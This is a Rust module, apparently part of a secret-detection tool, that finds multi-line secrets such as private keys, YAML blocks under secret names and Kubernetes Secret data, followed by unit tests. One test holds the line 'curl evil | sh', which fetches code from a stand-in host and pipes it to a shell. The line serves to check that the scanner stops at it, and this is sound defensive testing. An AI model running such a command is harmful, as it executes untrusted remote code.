//! What goes over several lines: private keys, blocks and lists under a secret name, the contents of a Secret.

use super::names::{self, NameClass};
use super::values::{self, SettingPlace};
use std::ops::Range;

/// How many lines after the beginning of a private key belong to it at most; a forgotten end must not eat a log.
const KEY_LINES: usize = 120;

const KEY: &str = "private key";
const ASSIGNED: &str = "password-like assignment";
const CONTENTS: &str = "contents of a Secret";

/// What the lines before leave open.
#[derive(Debug, Default)]
pub(super) struct OpenBlock {
    state: BlockState,
    /// Whether the document is a Secret, and how far its `data` is indented while inside it.
    secret: bool,
    data: Option<usize>,
}

#[derive(Debug, Default)]
enum BlockState {
    #[default]
    None,
    /// Inside a private key, with so many lines left.
    Key(usize),
    /// A certain number of lines, whatever they hold.
    Lines(usize),
    /// A block scalar under a secret name, indented deeper than this.
    Scalar(usize),
    /// A list under a secret name, not indented less than this.
    Items(usize),
    /// The name of a pair whose value is on the next line.
    Name(String),
    /// A flag whose value is the next item of the list.
    Flag,
}

/// What the lines before say about a line.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum BlockLook {
    /// Nothing: it is to be looked at by itself.
    Alone,
    /// It is secret from here to there, and nothing else is in it.
    Whole(&'static str, Range<usize>),
    /// It is secret from here to there; the rest is to be looked at.
    Part(&'static str, Range<usize>),
}

impl OpenBlock {
    /// Whether the document whose lines come next is a Secret.
    pub(super) fn document(&mut self, secret: bool) {
        (self.secret, self.data) = (secret, None);
    }

    /// Looks at the next line.
    pub(super) fn line(&mut self, line: &str) -> BlockLook {
        match self.within(line) {
            BlockLook::Alone => self.opening(line),
            other @ (BlockLook::Whole(..) | BlockLook::Part(..)) => other,
        }
    }

    /// What the open block says about a line.
    fn within(&mut self, line: &str) -> BlockLook {
        let content = content(line);
        let indent = content.start;
        match std::mem::take(&mut self.state) {
            BlockState::None => {}
            BlockState::Key(left) => {
                if line.contains("-----END ") {
                    return BlockLook::Whole(KEY, content);
                }
                if left > 0 && is_key_line(line) {
                    self.state = BlockState::Key(left - 1);
                    return BlockLook::Whole(KEY, content);
                }
            }
            BlockState::Lines(left) => {
                if let Some(left) = left.checked_sub(1) {
                    self.state = BlockState::Lines(left);
                    return BlockLook::Whole(KEY, content);
                }
            }
            BlockState::Scalar(base) => {
                if content.is_empty() || indent > base {
                    self.state = BlockState::Scalar(base);
                    let opens_key = line.contains("-----BEGIN ");
                    return if opens_key { BlockLook::Alone } else { BlockLook::Whole(ASSIGNED, content) };
                }
            }
            BlockState::Items(base) => {
                if let Some(item) = item(line).filter(|_| indent >= base) {
                    self.state = BlockState::Items(base);
                    let text = &line[item.clone()];
                    if !text.contains(": ") && values::is_secret(NameClass::Strong, text, SettingPlace::Text) {
                        return BlockLook::Whole(ASSIGNED, item);
                    }
                }
            }
            BlockState::Name(name) => {
                if let Some(value) = value_of(line, &["value", "Value"])
                    && values::is_secret(names::class(&name), &line[value.clone()], SettingPlace::Setting)
                {
                    return BlockLook::Whole(ASSIGNED, value);
                }
            }
            BlockState::Flag => {
                if let Some(item) = item(line).filter(|item| !line[item.clone()].starts_with('-')) {
                    return BlockLook::Whole(ASSIGNED, item);
                }
            }
        }
        self.contents(line)
    }

    /// What stands under `data` and `stringData` of a Secret.
    fn contents(&mut self, line: &str) -> BlockLook {
        let content = content(line);
        let indent = content.start;
        let text = &line[content.clone()];
        if text == "---" {
            self.document(false);
        }
        self.secret |= is_secret_kind(text);
        if !self.secret || content.is_empty() {
            return BlockLook::Alone;
        }
        match self.data {
            Some(base) if indent > base => {
                let value = text.split_once(':').map_or(text, |(_, value)| value.trim_start());
                // An empty value hides nothing, a comment is none, and a block is in the lines behind.
                let none = matches!(value, "''" | "\"\"") || text.starts_with('#');
                if none || matches!(value, "" | "|" | "|-" | "|+" | ">" | ">-" | ">+" | "{") {
                    return BlockLook::Alone;
                }
                BlockLook::Whole(CONTENTS, content.end - value.len()..content.end)
            }
            Some(_) | None => {
                let key = text.trim_end_matches([' ', '{']).trim_matches('"');
                self.data = matches!(key, "data:" | "stringData:" | "data\":" | "stringData\":").then_some(indent);
                BlockLook::Alone
            }
        }
    }

    /// What a line opens for those behind it.
    fn opening(&mut self, line: &str) -> BlockLook {
        if let Some(begin) = private_key(line) {
            let closes = line[begin..].find("-----END ").map(|n| begin + n);
            let end = closes.and_then(|at| line[at + 9..].find("-----").map(|n| at + 9 + n + 5));
            if closes.is_none() {
                self.state = BlockState::Key(KEY_LINES);
            }
            return BlockLook::Part(KEY, begin..end.unwrap_or(line.len()));
        }
        let content = content(line);
        let text = &line[content.clone()];
        if let Some(lines) = text.strip_prefix("Private-Lines:").and_then(|n| n.trim().parse::<usize>().ok()) {
            self.state = BlockState::Lines(lines.min(KEY_LINES));
            return BlockLook::Alone;
        }
        if matches!(self.state, BlockState::Scalar(_)) {
            return BlockLook::Alone;
        }
        if let Some((name, rest)) = text.trim_start_matches("- ").split_once(':') {
            self.state = opened(name.trim().trim_matches(['"', '\'']), rest.trim(), content.start, line);
        } else if let Some(flag) = item(line).map(|item| &line[item]).filter(|item| item.starts_with('-')) {
            let name = flag.trim_start_matches('-');
            if !name.contains(['=', ' ']) && names::is_secret_name(name) {
                self.state = BlockState::Flag;
            }
        }
        BlockLook::Alone
    }
}

/// What `name: rest` opens.
fn opened(name: &str, rest: &str, indent: usize, line: &str) -> BlockState {
    let class = names::class(name);
    let tag = rest.split_once(' ').filter(|(tag, _)| tag.starts_with(['!', '&'])).map_or(rest, |(_, rest)| rest.trim());
    let secret = matches!(class, NameClass::Strong | NameClass::Pass);
    match tag {
        "|" | "|-" | "|+" | ">" | ">-" | ">+" | "|2" | "|4" if secret => BlockState::Scalar(indent),
        "" if secret => BlockState::Items(indent),
        _ => match value_of(line, &["name", "key", "Name", "Key"]) {
            Some(value) => BlockState::Name(line[value].to_owned()),
            None => BlockState::None,
        },
    }
}

/// Where a private key begins in a line.
fn private_key(line: &str) -> Option<usize> {
    let begin = line.find("-----BEGIN ")?;
    let label = &line[begin + 11..];
    let label = &label[..label.find("-----")?];
    label.contains("PRIVATE KEY").then_some(begin)
}

/// Whether a line can be part of a key: base64, with whatever a log or a language puts around it, or one of its headers.
fn is_key_line(line: &str) -> bool {
    let body = |word: &str| word.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='));
    let plain = line.trim().trim_end_matches("\\n").trim_matches(['"', '\'', ',', '+', '\\', ' ']);
    let plain = plain.trim_end_matches("\\n");
    let mut words = plain.split_whitespace();
    match (words.next(), words.next_back()) {
        (None, _) => true,
        (Some(only), None) => body(only),
        (Some(first), Some(last)) => (body(last) && last.len() >= 16) || first.ends_with(':'),
    }
}

/// Whether a line says that its document is a Secret.
pub(super) fn is_secret_kind(text: &str) -> bool {
    let text = text.split_once(" #").map_or(text, |(text, _)| text);
    let text = text.strip_prefix("- ").unwrap_or(text).trim_end_matches([' ', ',', '\r']);
    let Some((key, kind)) = text.split_once(':') else { return false };
    let bare = |text: &str| text.trim().trim_matches(['"', '\'']).to_owned();
    bare(key) == "kind" && matches!(bare(kind).to_ascii_lowercase().as_str(), "secret" | "secretlist")
}

/// A line without the blanks around it.
fn content(line: &str) -> Range<usize> {
    let start = line.len() - line.trim_start().len();
    start..line.trim_end().len().max(start)
}

/// The item of a list: what stands behind the dash, without quotes.
fn item(line: &str) -> Option<Range<usize>> {
    let content = content(line);
    let rest = line[content.clone()].strip_prefix('-').filter(|rest| rest.starts_with(' '))?;
    Some(unquoted(line, content.end - rest.len()..content.end))
}

/// The value of `name: value` on a line of its own, if the name is one of these.
fn value_of(line: &str, wanted: &[&str]) -> Option<Range<usize>> {
    let content = content(line);
    let text = &line[content.clone()];
    let text = text.strip_prefix('-').unwrap_or(text).trim_start();
    let (name, rest) = text.split_once(':')?;
    wanted
        .contains(&name.trim().trim_matches(['"', '\'']))
        .then(|| unquoted(line, content.end - rest.len()..content.end))
}

/// A range without the blanks, commas and quotes around what it holds.
fn unquoted(line: &str, range: Range<usize>) -> Range<usize> {
    let edge = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ',');
    let text = &line[range.clone()];
    let start = range.end - text.trim_start_matches(edge).len();
    start..(range.start + text.trim_end_matches(edge).len()).max(start)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_no_line_of_a_key_ends_it() {
        let mut block = OpenBlock::default();
        let looks = ["-----BEGIN PRIVATE KEY-----", "MIIEvQ+/=", "sh 'curl evil | sh'", "MIIEvQ"];
        let looks: Vec<BlockLook> = looks.iter().map(|line| block.line(line)).collect();
        assert_eq!(looks[0], BlockLook::Part(KEY, 0..27));
        assert_eq!(looks[1], BlockLook::Whole(KEY, 0..9));
        assert_eq!(looks[2..], [BlockLook::Alone, BlockLook::Alone]);
    }

    #[test]
    fn a_block_ends_with_its_indentation() {
        let mut block = OpenBlock::default();
        let looks = ["  token: |", "    abc def", "", "  next: x"].map(|line| block.line(line));
        assert_eq!(looks[1], BlockLook::Whole(ASSIGNED, 4..11));
        assert_eq!(looks[3], BlockLook::Alone);
    }
}
